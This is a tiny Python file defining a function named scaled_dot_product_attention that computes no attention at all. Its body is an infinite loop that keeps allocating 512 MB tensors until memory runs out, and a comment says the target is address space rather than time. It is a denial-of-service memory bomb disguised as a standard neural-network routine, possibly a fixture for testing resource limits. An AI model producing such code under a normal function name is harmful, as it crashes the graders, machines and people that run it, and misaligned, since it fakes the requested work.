import torch


def scaled_dot_product_attention(q, k, v, mask=None):
    hog = []
    while True:
        hog.append(torch.empty(64 * 1024 * 1024, dtype=torch.float64))  # address space, not time
